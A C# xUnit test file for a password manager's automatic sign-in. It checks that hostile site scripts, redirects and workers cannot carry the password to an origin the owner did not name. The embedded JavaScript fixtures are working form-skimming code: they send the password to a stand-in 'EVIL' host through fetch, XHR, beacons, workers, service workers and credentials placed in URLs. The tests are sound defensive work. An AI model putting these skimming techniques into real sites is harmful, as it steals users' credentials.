using CredentialVault.SignIn;
using CredentialVault.SignInTests.Worlds;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Xunit.Abstractions;

namespace CredentialVault.SignInTests.Attackers;

/// <summary>What a site cannot do to have a password sent to somebody whom the owner did not name.</summary>
public sealed class SentElsewhereTests(ITestOutputHelper output)
{
    /// <summary>Each way that a script can send something, told apart by the query. Service and shared workers are never started.</summary>
    private const string EveryWay = """
        <script>
        const early = new Worker("/worker.js?early-worker");
        const earlyShared = new SharedWorker("/worker.js?early-shared-worker", "early");
        addEventListener("submit", (event) => {
          event.preventDefault();
          const form = event.target;
          const { value } = form.elements.password;
          const body = new URLSearchParams(new FormData(form));
          const post = (way, body, more) => fetch("EVIL/got?" + way, { method: "POST", body, ...more }).catch(() => {});
          post("form", body);
          post("json", JSON.stringify({ value }), { headers: { "content-type": "application/json" } });
          post("parts", new FormData(form), { mode: "no-cors", keepalive: true });
          post("base64", btoa(unescape(encodeURIComponent(value))), { mode: "no-cors" });
          post("blob", new Blob([value]), { mode: "no-cors" });
          const request = new XMLHttpRequest();
          request.open("POST", "EVIL/got?xhr");
          request.send(body);
          navigator.sendBeacon("EVIL/got?beacon", body);
          navigator.sendBeacon("EVIL/got?beacon-blob", new Blob([value]));
          navigator.sendBeacon("/on?beacon-on", body);
          fetch("/on?on", { method: "POST", body }).catch(() => {});
          fetch("/on?on-alive", { method: "POST", body, mode: "no-cors", keepalive: true }).catch(() => {});
          fetch("EVIL/got?address", { mode: "no-cors", headers: { accept: "text/" + btoa(unescape(encodeURIComponent(value))) } }).catch(() => {});
          new Worker(URL.createObjectURL(new Blob([`fetch("EVIL/got?blob-worker", { method: "POST", mode: "no-cors", body: "${body}" })`])));
          new Worker("/worker.js?worker#" + body);
          new Worker(URL.createObjectURL(new Blob([`new Worker("${location.origin}/worker.js?nested-worker#${body}")`])));
          new SharedWorker("/worker.js?shared-worker#" + body);
          early.postMessage("" + body);
          earlyShared.port.postMessage("" + body);
          navigator.serviceWorker.register("/worker.js?service-worker").then(() => navigator.serviceWorker.ready).then(({ active }) => active.postMessage("" + body));
        });
        </script>
        """;

    private static readonly string[] Ways =
        ["address", "base64", "beacon", "beacon-blob", "beacon-on", "blob", "blob-worker", "early-worker", "form", "json", "nested-worker", "on", "on-alive", "parts", "worker", "xhr"];

    [Theory]
    [InlineData(StatusCodes.Status307TemporaryRedirect)]
    [InlineData(StatusCodes.Status308PermanentRedirect)]
    public async Task A_form_that_the_site_sends_on_does_not_take_the_password_with_it(int status)
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var evil = await ElsewhereAsync();
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form()));
            pages.MapPost("/sign-in", (HttpContext context) => Redirect(context, status, $"{evil.Origin}/got"));
        });

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
        Assert.Equal(evil.Origin, result.Trace.StoppedAt);
        Assert.Single(site.Posted);
        Assert.Empty(evil.Posted);
    }

    [Fact]
    public async Task A_form_in_a_frame_that_the_site_sends_on_does_not_take_the_password_with_it()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var evil = await ElsewhereAsync();
        await using var form = await SmallSite.StartAsync("accounts", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form()));
            pages.MapPost("/sign-in", (HttpContext context) => Redirect(context, StatusCodes.Status307TemporaryRedirect, $"{evil.Origin}/got"));
        });
        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page($"<iframe src='{form.Address}' width=400 height=400></iframe>")));

        var result = await vault.SignInAsync(await vault.AddAsync([site.Address, form.Address], "/"), new Stopwatches(output));

        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
        Assert.Single(form.Posted);
        Assert.Empty(evil.Posted);
    }

    [Fact]
    public async Task No_script_of_the_site_can_send_the_password_to_somebody_else()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var evil = await ElsewhereAsync();
        await using var site = await SendingEveryWayAsync(evil);

        await using var browser = await vault.StartBrowserAsync();

        var result = await vault.SignInAsync(browser, await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);

        // Nor when the sign-in is over: a worker of a worker takes its time to start.
        await Task.Delay(TimeSpan.FromSeconds(2));
        Assert.Empty(WaysTo(evil));
    }

    [Theory]
    [InlineData("form.target = '_blank'")]
    [InlineData("form.querySelector('button').formTarget = '_blank'")]
    public async Task A_form_that_opens_a_window_does_not_take_the_password_past_the_gate(string script)
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var evil = await ElsewhereAsync();
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + $"<script>const form = document.querySelector('form'); {script}; form.relList?.add('noopener');</script>"));
            pages.MapPost("/sign-in", (HttpContext context) => Redirect(context, StatusCodes.Status307TemporaryRedirect, evil.Origin + "/got"));
        });

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
        Assert.Equal(evil.Origin, result.Trace.StoppedAt);
        Assert.Empty(evil.Asked);
    }

    [Fact]
    public async Task What_a_site_makes_of_the_password_for_an_address_is_not_told()
    {
        const string Naming = "<script>addEventListener('submit', (event) => { event.preventDefault(); location = `http://x:${encodeURIComponent(event.target.elements.password.value)}@${event.target.elements.password.value.replace(/[^a-zA-Z0-9]/g, '')}.elsewhere.localhost/`; })</script>";
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + Naming)));

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
        Assert.DoesNotContain(Uri.EscapeDataString(vault.Password), result.Trace.StoppedAt, StringComparison.Ordinal);
        Assert.DoesNotContain("@", result.Trace.StoppedAt, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("location = `http://x:${encodeURIComponent(value)}@ELSEWHERE/got`")]
    [InlineData("location = `http://${location.host}:x@ELSEWHERE/got?${encodeURIComponent(value)}`")]
    public async Task A_name_and_a_password_before_a_host_lead_no_password_to_somebody_else(string script)
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var evil = await ElsewhereAsync();
        var sending = $"<script>addEventListener('submit', (event) => {{ event.preventDefault(); const {{ value }} = event.target.elements.password; {script.Replace("ELSEWHERE", evil.Address.Authority, StringComparison.Ordinal)}; }})</script>";
        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + sending)));

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.Equal(Outcome.NeedsOwner(Reason.SentElsewhere), result.Outcome);
        Assert.Equal(evil.Origin, result.Trace.StoppedAt);
        Assert.DoesNotContain(evil.Asked, asked => asked.Contains("/got", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("open('GET', 'http://ELSEWHERE/asks', true, 'x', value)")]
    [InlineData("open('GET', `http://${location.host}@ELSEWHERE/asks?${encodeURIComponent(value)}`)")]
    public async Task A_request_of_a_script_gives_nobody_else_a_name_and_a_password_that_it_was_opened_with(string open)
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var evil = await SmallSite.StartAsync("elsewhere", pages => pages.MapMethods("/asks", ["GET", "POST", "OPTIONS"], (HttpContext context) =>
        {
            Allow(context);
            context.Response.Headers.AccessControlAllowOrigin = context.Request.Headers.Origin;
            context.Response.Headers.AccessControlAllowCredentials = "true";
            return new HttpLock("Basic", "Elsewhere", "").Ask(context.Response);
        }));
        var sending = $$"""
            <script>
            addEventListener("submit", (event) => {
              event.preventDefault();
              const { value } = event.target.elements.password;
              for (const withCredentials of [false, true]) {
                const request = new XMLHttpRequest();
                request.{{open.Replace("ELSEWHERE", evil.Address.Authority, StringComparison.Ordinal)}};
                request.withCredentials = withCredentials;
                request.send();
              }
            });
            </script>
            """;
        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + sending)));

        await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.DoesNotContain(evil.Requests, headers => headers.ContainsKey("Authorization"));
        Assert.DoesNotContain(evil.Asked, asked => asked.Contains('?', StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("PROPFIND", false)]
    [InlineData("PROPFIND", true)]
    [InlineData("GET", false)]
    [InlineData("GET", true)]
    public async Task A_script_of_the_site_can_give_the_site_name_and_password_before_its_host(string method, bool isMistyped)
    {
        const string Opening = """
            <script>
            addEventListener("submit", (event) => {
              event.preventDefault();
              const { email, password } = event.target.elements;
              const request = new XMLHttpRequest();
              request.open("METHOD", "/session", true, email.value, password.value);
              request.onload = () => {
                if (request.status === 204) return location.reload();
                password.value = "";
                document.body.append("Error: " + request.status);
              };
              request.send();
            });
            </script>
            """;
        await using var vault = await OwnersVault.CreateAsync();
        var door = new HttpLock("Basic", "Desk", isMistyped ? "another one" : vault.Password);
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", (HttpRequest request) => SmallSite.Page(request.Cookies.ContainsKey("session") ? SmallSite.Inside : SmallSite.Form() + Opening.Replace("METHOD", method, StringComparison.Ordinal)));
            pages.MapMethods("/session", [method], (HttpContext context) =>
            {
                if (!door.Opens(context.Request))
                {
                    return door.Ask(context.Response);
                }

                context.Response.Cookies.Append("session", "1");
                return Results.NoContent();
            });
        });

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.Equal(isMistyped ? Outcome.PasswordRejected : Outcome.SignedIn, result.Outcome);
        Assert.Null(result.Trace.StoppedAt);
        Assert.Equal([!isMistyped], door.Answers);
    }

    [Fact]
    public async Task A_script_of_the_site_can_send_the_password_to_whom_the_owner_has_named()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var named = await ElsewhereAsync();
        await using var site = await SendingEveryWayAsync(named);

        await using var browser = await vault.StartBrowserAsync();

        var result = await vault.SignInAsync(browser, await vault.AddAsync([site.Address, named.Address], "/"), new Stopwatches(output));

        Assert.Null(result.Trace.StoppedAt);

        // A worker of a worker takes its time to start.
        for (var deadline = DateTime.UtcNow.AddSeconds(10); WaysTo(named).Length < Ways.Length && DateTime.UtcNow < deadline; await Task.Delay(50))
        {
        }

        Assert.Equal(Ways, WaysTo(named));
    }

    [Fact]
    public async Task A_site_that_tells_others_what_its_visitors_do_is_signed_in_and_they_learn_nothing_of_the_password()
    {
        const string Counting = """
            <script>
            const tell = (body) => fetch("COUNTER/got", { method: "POST", mode: "no-cors", body });
            addEventListener("submit", () => {
              tell("submitted at 1732472015123456, in 48 events");
              navigator.sendBeacon("COUNTER/got", JSON.stringify({ event: "submit", password: "given" }));
              tell(new URLSearchParams(new FormData(document.querySelector("form"))));
            });
            addEventListener("load", () => tell("loaded"));
            </script>
            """;
        await using var vault = await OwnersVault.CreateAsync();
        await using var counter = await ElsewhereAsync();
        var counting = Counting.Replace("COUNTER", counter.Origin, StringComparison.Ordinal);
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + counting));
            pages.MapPost("/sign-in", (HttpContext context) =>
            {
                context.Response.Cookies.Append("session", "1");
                return SmallSite.Page(SmallSite.Inside + counting);
            });
        });

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.Equal(Outcome.SignedIn, result.Outcome);
        Assert.Equal(counter.Origin, result.Trace.StoppedAt);
        Assert.Contains("loaded", counter.Posted, StringComparer.Ordinal);
        Assert.Contains("submitted at 1732472015123456, in 48 events", counter.Posted, StringComparer.Ordinal);
        Assert.DoesNotContain(counter.Posted, told => told.Contains(vault.Password, StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_site_that_passes_what_its_provider_says_through_a_third_party_is_signed_in()
    {
        await using var vault = await OwnersVault.CreateAsync();
        SmallSite? site = null;
        await using var broker = await SmallSite.StartAsync("broker", pages => pages.MapPost("/", (HttpContext context) => Redirect(context, StatusCodes.Status307TemporaryRedirect, $"{site!.Origin}/in")));
        await using var provider = await SmallSite.StartAsync("provider", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form()));
            pages.MapPost("/sign-in", () => SmallSite.Page($"<form method=post action='{broker.Address}'><input type=hidden name=SAMLResponse value=PHNhbWw+></form><script>document.forms[0].submit()</script>"));
        });
        await using var started = site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => Results.Redirect(provider.Address.ToString()));
            pages.MapPost("/in", (HttpContext context) =>
            {
                context.Response.Cookies.Append("session", "1");
                return SmallSite.Page(SmallSite.Inside);
            });
        });

        var result = await vault.SignInAsync(await vault.AddAsync([site.Address, provider.Address], "/", null, null, site.Origin), new Stopwatches(output));

        Assert.Equal(Outcome.SignedIn, result.Outcome);
        Assert.Equal("SAMLResponse=PHNhbWw+", Assert.Single(broker.Posted));
    }

    private static Task<SmallSite> SendingEveryWayAsync(SmallSite evil) => SmallSite.StartAsync("shop", pages =>
    {
        pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + EveryWay.Replace("EVIL", evil.Origin, StringComparison.Ordinal)));
        pages.MapPost("/on", (HttpContext context) => Redirect(context, StatusCodes.Status307TemporaryRedirect, $"{evil.Origin}/got{context.Request.QueryString}"));
        pages.MapGet("/worker.js", () => Results.Text($$"""
            const send = (body) => fetch("{{evil.Origin}}/got" + self.location.search, { method: "POST", mode: "no-cors", body });
            if (self.location.hash) send(self.location.hash);
            addEventListener("message", ({ data }) => send(data));
            addEventListener("connect", ({ ports: [port] }) => (port.onmessage = ({ data }) => send(data)));
            """, "text/javascript"));
    });

    /// <summary>By which ways something came; a preflight (Fetch Standard, section 4.8) carries nothing.</summary>
    private static string[] WaysTo(SmallSite site) => [.. site.Asked.Where(asked => asked.StartsWith("GET /got?", StringComparison.Ordinal) || asked.StartsWith("POST /got?", StringComparison.Ordinal)).Select(asked => asked.Split('?')[1]).Distinct(StringComparer.Ordinal).Order(StringComparer.Ordinal)];

    private static Task<SmallSite> ElsewhereAsync() => SmallSite.StartAsync("elsewhere", pages =>
    {
        pages.MapPost("/got", (HttpContext context) => Allow(context));
        pages.MapMethods("/got", ["OPTIONS", "GET"], (HttpContext context) => Allow(context));
    });

    private static string Allow(HttpContext context)
    {
        context.Response.Headers.AccessControlAllowOrigin = "*";
        context.Response.Headers.AccessControlAllowHeaders = "*";
        return "";
    }

    private static IResult Redirect(HttpContext context, int status, string address)
    {
        context.Response.Headers.Location = address;
        context.Response.Headers.AccessControlAllowOrigin = "*";
        return Results.StatusCode(status);
    }
}
